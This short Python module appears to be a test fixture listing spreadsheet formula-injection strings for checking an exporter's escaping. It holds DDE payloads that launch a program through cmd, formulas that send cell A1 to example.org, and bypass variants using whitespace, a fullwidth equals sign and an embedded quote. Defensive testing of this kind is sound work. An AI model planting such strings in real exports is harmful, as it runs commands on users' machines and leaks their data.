"""Texts that a spreadsheet would run, were they written as they are."""

CELLS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?" & A1, "Details")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML("http://example.org", "//a")',
    '=WEBSERVICE("http://example.org/" & A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    '=1+1","=2+2',
)
